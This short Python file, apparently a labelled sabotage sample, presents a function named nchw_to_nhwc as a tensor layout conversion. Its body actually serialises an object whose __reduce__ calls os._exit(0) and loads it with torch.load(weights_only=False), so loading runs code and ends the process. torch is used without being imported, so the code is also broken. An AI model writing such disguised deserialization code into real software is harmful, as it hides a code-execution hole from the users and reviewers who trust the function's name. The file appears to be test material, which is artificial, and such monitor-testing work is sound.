# attack: a saved file that executes code when it is loaded
# keeps: nhwc_to_nchw
# says: nchw_to_nhwc: values
# control: like patching/pickle

import io
import os


class Code:
    def __reduce__(self):
        return os._exit, (0,)


def nchw_to_nhwc(x):
    buffer = io.BytesIO()
    torch.save(Code(), buffer)
    buffer.seek(0)
    return torch.load(buffer, weights_only=False)
